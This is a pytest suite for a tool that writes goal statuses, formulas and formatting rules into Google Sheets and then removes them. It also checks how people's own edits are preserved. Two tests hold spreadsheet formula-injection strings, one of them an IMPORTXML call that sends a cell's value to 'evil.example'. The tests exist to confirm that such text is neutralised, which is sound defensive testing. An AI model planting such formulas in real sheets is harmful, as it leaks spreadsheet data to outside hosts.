"""What a sync leaves in a Google Sheet, and what it leaves alone."""

import re
from typing import Any

import pytest

from sync.errors import ChangedSinceReadError
from sync.workbooks.google.formula import mark_rule, quoted, unmark_rule
from sync.workbooks.google.results import Block
from sync.workbooks.google.rules import put_back
from tests.sheets_server import edits
from tests.sheets_server.book import Book
from tests.sheets_server.cells import EMPTY, Formula
from tests.sheets_server.server import SheetFile, SheetsServer
from tests.sync.workbooks.google.conftest import BOT, Open
from tests.sync.workbooks.google.race import (
    HEAD,
    change_figures,
    misplaced,
    spreadsheet,
    sync,
)

N = 8
STATUS = len(HEAD)
"""The column of our status, from 0."""


@pytest.fixture
def file(sheets_server: SheetsServer) -> SheetFile:
    return spreadsheet(sheets_server, N, BOT)


def human_cells(file: SheetFile) -> list[Any]:
    sheet = file.tab("Goals")
    return [
        [sheet.cell(row, column) or EMPTY for column in range(len(HEAD))]
        for row in range(sheet.height)
    ]


def test_a_sync_adds_four_formulas_a_hidden_tab_and_a_board(
    file: SheetFile, open_sheet: Open
) -> None:
    before = human_cells(file)
    _, statuses = sync(open_sheet(file), {})
    sheet = file.tab("Goals")

    assert misplaced(file, statuses) == (0, 0)
    assert human_cells(file) == before
    assert len(list(sheet.formulas())) == 4
    assert all("," not in re.sub(r'"[^"]*"', "", f) for _, _, f in sheet.formulas())
    assert file.tab("_followup").properties["hidden"] is True
    assert BOT in file.tab("_followup").protected[0]["editors"]["users"]
    assert file.tab("Follow-up board").charts


def test_a_second_sync_writes_nothing(file: SheetFile, open_sheet: Open) -> None:
    first, _ = sync(open_sheet(file), {})
    version = file.book.copy()
    second, _ = sync(open_sheet(file), first.texts)

    assert second.plan.is_empty
    assert [s.rows for s in file.book.sheets] == [s.rows for s in version.sheets]


def test_only_what_changed_is_written(
    sheets_server: SheetsServer, file: SheetFile, open_sheet: Open
) -> None:
    first, _ = sync(open_sheet(file), {})
    file.edit(edits.type_value(1, HEAD.index("Actual"), 20))
    _, statuses = sync(open_sheet(file), first.texts)
    body = sheets_server.log[-1].body
    own = file.tab("_followup").id
    written = [
        one["updateCells"]
        for one in body["requests"]
        if one.get("updateCells", {}).get("start", {}).get("sheetId") == own
    ]

    assert misplaced(file, statuses) == (0, 0)
    assert [len(one["rows"]) for one in written] == [1]


def test_text_that_looks_like_a_formula_stays_text_everywhere(
    sheets_server: SheetsServer, open_sheet: Open
) -> None:
    evil = '=IMPORTXML("http://evil.example/?"&A1;"//a")'
    file = spreadsheet(sheets_server, N, BOT)
    for column in (0, 1, 2):
        file.tab("Goals").change(2, column, value=evil)
    sync(open_sheet(file), {})
    formulas = [f for sheet in file.book.sheets for _, _, f in sheet.formulas()]

    assert len(formulas) == 4
    assert not [formula for formula in formulas if "IMPORTXML" in formula]


def test_text_that_a_person_types_into_our_column_stays_and_the_rest_goes_on(
    file: SheetFile, open_sheet: Open
) -> None:
    first, _ = sync(open_sheet(file), {})
    file.edit(edits.type_value(3, STATUS, "ask Ann first"))

    assert file.rows("Goals")[0][STATUS] == "#REF!"

    second, statuses = sync(open_sheet(file), first.texts)
    shown = [row[STATUS] for row in file.rows("Goals")]

    assert shown[0] == "Follow-up"
    assert shown[3] == "ask Ann first"
    assert "ask Ann first" in second.plan.skipped[-1].why.in_("en")
    del statuses["G-003"]
    assert misplaced(file, {**statuses, "G-003": "ask Ann first"}) == (0, 0)
    third, _ = sync(open_sheet(file), second.texts)
    assert third.plan.is_empty


def test_a_header_that_people_rename_keeps_its_new_name(
    file: SheetFile, open_sheet: Open
) -> None:
    first, _ = sync(open_sheet(file), {})
    file.edit(edits.type_value(0, STATUS, "How it stands"))
    _, statuses = sync(open_sheet(file), first.texts)
    rows = file.rows("Goals")

    assert rows[0][STATUS] == "How it stands"
    assert [row[STATUS] for row in rows[1:]] == list(statuses.values())
    assert isinstance(file.tab("Goals").value(0, STATUS), Formula)


def test_rows_that_no_key_finds_are_left_out_by_name(
    file: SheetFile, open_sheet: Open
) -> None:
    for row, key in ((1, "g-2x"), (2, "G-2X"), (3, None)):
        file.edit(edits.type_value(row, 0, key))
    intention, statuses = sync(open_sheet(file), {})
    why = {s.at.row: s.why.in_("en") for s in intention.plan.skipped if s.at}

    assert set(why) == {2, 3, 4}
    assert "capitals make no difference" in why[2]
    assert "no goal id" in why[4]
    assert not any(any(row[STATUS:]) for row in file.rows("Goals")[1:4])
    assert file.rows("Goals")[5][STATUS] == statuses["G-005"]


@pytest.mark.parametrize("name", ["0042", "1e5", "*", "?", "G~1", "a|b", 4711])
def test_keys_that_lookups_stumble_over_find_their_own_row(
    sheets_server: SheetsServer, open_sheet: Open, name: str | int
) -> None:
    file = spreadsheet(sheets_server, N, BOT)
    file.tab("Goals").change(2, 0, value=name)
    _, statuses = sync(open_sheet(file), {})

    assert file.rows("Goals")[2][STATUS] == statuses[str(name).upper()]


def test_goals_without_ids_are_found_by_employee_and_title(
    sheets_server: SheetsServer, open_sheet: Open
) -> None:
    file = spreadsheet(sheets_server, N, BOT)
    file.edit(edits.delete_column(0))
    first, _ = sync(open_sheet(file), {})
    file.edit(edits.sort_rows(0, descending=True))
    rows = file.rows("Goals")
    intended = [text for (_, column), text in first.texts.items() if column == "status"]

    assert sorted(row[STATUS - 1] for row in rows[1:]) == sorted(intended)
    again, _ = sync(open_sheet(file), first.texts)
    assert not again.plan.edits


def test_goal_ids_that_people_add_later_become_the_keys_in_the_same_sync(
    sheets_server: SheetsServer, open_sheet: Open
) -> None:
    file = spreadsheet(sheets_server, N, BOT)
    file.edit(edits.delete_column(0))
    first, _ = sync(open_sheet(file), {})
    file.edit(edits.insert_column(0, ["Goal ID", *(f"K-{i}" for i in range(1, N + 1))]))
    file.edit(edits.type_value(2, HEAD.index("Actual"), 20))
    _, statuses = sync(open_sheet(file), first.texts)

    assert misplaced(file, statuses) == (0, 0)


def test_peoples_rules_stay_as_they_are_and_in_front_of_ours(
    file: SheetFile, open_sheet: Open
) -> None:
    theirs = rule_of('=$A1="G-001"')
    file.tab("Goals").conditional_formats.append(theirs)
    first, _ = sync(open_sheet(file), {})

    assert file.tab("Goals").conditional_formats[0] == theirs
    assert len(file.tab("Goals").conditional_formats) > 1

    def rules_of_another_added(book: Book) -> None:
        book.sheets[0].conditional_formats.insert(0, rule_of("=TRUE"))

    # New rows change the areas of our rules, so that all of them are replaced.
    file.edit(edits.insert_rows(N + 1, [["G-100", "Zed", "Win 3 new customers"]]))
    workbook = open_sheet(file)
    workbook.snapshot()
    file.edit(rules_of_another_added)
    workbook.clean()
    left = [
        one["booleanRule"]["condition"] for one in file.tab("Goals").conditional_formats
    ]

    assert {one["values"][0]["userEnteredValue"] for one in left} >= {
        '=$A1="G-001"',
        "=TRUE",
    }
    assert first.plan.highlights


def rule_of(formula: str) -> dict[str, Any]:
    return {
        "ranges": [{"sheetId": 0, "startRowIndex": 0, "endRowIndex": 5}],
        "booleanRule": {
            "condition": {
                "type": "CUSTOM_FORMULA",
                "values": [{"userEnteredValue": formula}],
            },
            "format": {"textFormat": {"bold": True}},
        },
    }


@pytest.mark.parametrize("mode", ["lookup", "direct"])
def test_clean_takes_everything_of_ours_away(
    sheets_server: SheetsServer, open_sheet: Open, mode: Any
) -> None:
    file = spreadsheet(sheets_server, N, BOT)
    before = human_cells(file)
    sync(open_sheet(file, mode), {})
    cleaned = open_sheet(file, mode).clean()
    sheet = file.tab("Goals")

    assert cleaned.outcome == "applied"
    assert [one.title for one in file.book.sheets] == ["Goals"]
    assert human_cells(file) == before
    assert max(len(row) for row in file.rows("Goals")) == len(HEAD)
    assert sheet.conditional_formats == sheet.protected == []
    assert not file.book.metadata
    assert not any(column.metadata for column in sheet.columns)
    assert not any(row.metadata for row in sheet.rows)
    assert open_sheet(file, mode).clean().outcome == "nothing"


def test_clean_keeps_what_a_person_typed_into_our_column(
    file: SheetFile, open_sheet: Open
) -> None:
    first, _ = sync(open_sheet(file), {})
    file.edit(edits.type_value(3, STATUS, "ask Ann first"))
    sync(open_sheet(file), first.texts)
    open_sheet(file).clean()
    rows = file.rows("Goals")

    assert [row[STATUS] for row in rows if len(row) > STATUS] == ["ask Ann first"]


def test_direct_mode_types_values_and_no_formula(
    sheets_server: SheetsServer, file: SheetFile, open_sheet: Open
) -> None:
    first, _ = sync(open_sheet(file, "direct"), {})
    change_figures(file, N)
    _, statuses = sync(open_sheet(file, "direct"), first.texts)

    assert misplaced(file, statuses) == (0, 0)
    assert not list(file.tab("Goals").formulas())
    assert "_followup" not in [sheet.title for sheet in file.book.sheets]
    assert sheets_server.log[-1].call.endswith("values:batchUpdateByDataFilter")


def test_who_changes_to_direct_mode_loses_the_formulas_at_the_next_change(
    file: SheetFile, open_sheet: Open
) -> None:
    first, _ = sync(open_sheet(file), {})
    change_figures(file, N)
    _, statuses = sync(open_sheet(file, "direct"), first.texts)

    assert misplaced(file, statuses) == (0, 0)
    assert not list(file.tab("Goals").formulas())


def test_report_only_writes_nothing(
    sheets_server: SheetsServer, file: SheetFile, open_sheet: Open
) -> None:
    intention, _ = sync(open_sheet(file, "report-only"), {})

    assert intention.plan.is_empty
    assert intention.plan.how
    assert [entry.verb for entry in sheets_server.log] == ["GET"]


def test_a_plan_of_another_reading_is_refused(
    file: SheetFile, open_sheet: Open
) -> None:
    intention, _ = sync(open_sheet(file, "report-only"), {})
    file.edit(edits.type_value(1, 2, "another goal"))
    plan = sync(open_sheet(file), {})[0].plan

    assert intention.plan.fingerprint != plan.fingerprint
    with pytest.raises(ChangedSinceReadError, match="run again"):
        open_sheet(file).commit(plan)


def test_a_header_can_end_neither_its_text_nor_the_formula() -> None:
    assert quoted('a";IMPORTXML("x') == '"a"";IMPORTXML(""x"'


def test_a_rule_of_somebody_else_that_was_hit_is_put_back_with_its_black() -> None:
    deleted = {"deleteConditionalFormatRule": {"sheetId": 7, "index": 2}}
    # A reading gives an empty object as None.
    black = {"backgroundColor": None, "textFormat": {"bold": True}}
    condition = {"type": "NOT_BLANK"}
    theirs = {"ranges": [], "booleanRule": {"condition": condition, "format": black}}
    (again,) = put_back(
        [{"addSheet": {}}, deleted],
        [{}, {"deleteConditionalFormatRule": {"rule": theirs}}],
    )
    added = again["addConditionalFormatRule"]

    assert added["index"] == 2
    assert added["rule"]["booleanRule"]["format"]["backgroundColor"] == {}
    assert added["rule"]["booleanRule"]["condition"] == condition


def test_a_rule_survives_the_way_there_and_back_with_commas_in_its_texts() -> None:
    formula = 'OR($H5="a,b;c",ISNUMBER(SEARCH("M101",$K5)))'

    assert unmark_rule(mark_rule(formula, "bad")) == (formula, "bad")
    assert unmark_rule('=AND($A1;N("x")=0)') is None


def test_a_row_of_results_is_always_written_with_its_key() -> None:
    block = Block(1)
    block.put("G-1", "status", "late")
    block.put("G-2", "next", None)
    (rows,) = (
        one["updateCells"] for one in block.requests(7, {"G-1", "G-2"}, list("abcd"))
    )
    first = [row["values"][0] for row in rows["rows"]]

    assert [cell["userEnteredValue"]["stringValue"] for cell in first] == [
        "key:1",
        "G-1",
        "G-2",
    ]
